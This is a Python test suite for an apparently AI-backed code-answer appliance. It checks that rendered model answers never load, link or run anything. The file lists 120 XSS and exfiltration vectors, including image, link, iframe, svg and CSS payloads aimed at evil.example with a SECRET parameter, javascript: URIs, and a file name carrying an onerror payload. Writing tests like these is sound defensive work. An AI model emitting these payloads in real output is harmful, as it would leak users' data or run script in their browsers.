"""Whatever a model writes, the page loads nothing, links nowhere and runs nothing (E01, E02, E05)."""

from __future__ import annotations

from itertools import product

import pytest

from appliance.accounts.models import User
from appliance.conversations.rendering import render_answer, render_markdown
from appliance.sources.access import scope_of
from indexer.models import Source
from tests.appliance.conversations.conftest import CART, FILES, MessageFactory, lines_of
from tests.appliance.conversations.injection.dom import Dom
from tests.conftest import SourceFactory

ADDRESSES = (
    "https://evil.example/?d=SECRET",
    "//evil.example/?d=SECRET",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "https://wiki.internal/redirect?u=https://evil.example/?d=SECRET",
)
FORMS = (
    "![x]({0})",
    "![x][1]\n\n[1]: {0}",
    "[click]({0})",
    "[click][1]\n\n[1]: {0} 'title'",
    "<{0}>",
    "{0}",
    '<img src="{0}">',
    '<a href="{0}" onclick="alert(1)">click</a>',
    '<iframe srcdoc="x" src="{0}"></iframe>',
    '<svg><image href="{0}"/></svg>',
    '<p style="background:url({0})">x</p>',
    "x[^1]\n\n[^1]: ![x]({0})",
    "| a | b |\n|---|---|\n| ![x]({0}) | [y]({0}) |",
    "&lt;img src=&quot;{0}&quot;&gt;",
    "\\u003cimg src={0}\\u003e",
)
VECTORS = [form.format(address) for form, address in product(FORMS, ADDRESSES)]


def test_there_are_120_vectors() -> None:
    assert len(set(VECTORS)) == 120


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_in_an_answer_loads_leaves_or_runs(vector: str) -> None:
    for text in (vector, f"- {vector}", f"> {vector}", f"## {vector}", f"a {vector} b [E1]"):
        dom = Dom(render_markdown(text))
        assert dom.dangers == []
        assert dom.citations == 0


def test_an_address_is_shown_as_text_with_its_whole_host() -> None:
    dom = Dom(render_markdown("[click](https://evil.example/?d=SECRET)"))
    assert "https://evil.example/?d=SECRET" in dom.text


@pytest.mark.parametrize("at", ["before", "after", "inside"])
def test_beside_citations_only_citations_are_links(
    at: str, owner: User, source_factory: SourceFactory, message_factory: MessageFactory
) -> None:
    shop = source_factory("shop", FILES)
    cart = lines_of(shop, "shop/cart.py", 4, 9)
    for vector in VECTORS[::7]:
        parts = {"before": f"{vector} [E1].", "after": f"It adds [E1]. {vector}"}
        text = parts.get(at, f"It [adds [E1]]({vector}) and `[E1]{vector}`.")
        message = message_factory(owner, text, [cart], cited=[cart])
        dom = Dom(render_answer(message, scope_of(owner)).html)
        assert dom.dangers == []


def test_hostile_names_of_files_stay_names(
    owner: User, source_factory: SourceFactory, message_factory: MessageFactory
) -> None:
    name = "a'\"><img src=x onerror=alert(1)>.py"
    shop: Source = source_factory("shop", {name: CART})
    cart = lines_of(shop, name, 4, 9)
    message = message_factory(owner, "It adds [E1].", [cart], cited=[cart])
    dom = Dom(render_answer(message, scope_of(owner)).html)
    assert dom.dangers == []
    assert dom.citations == 1
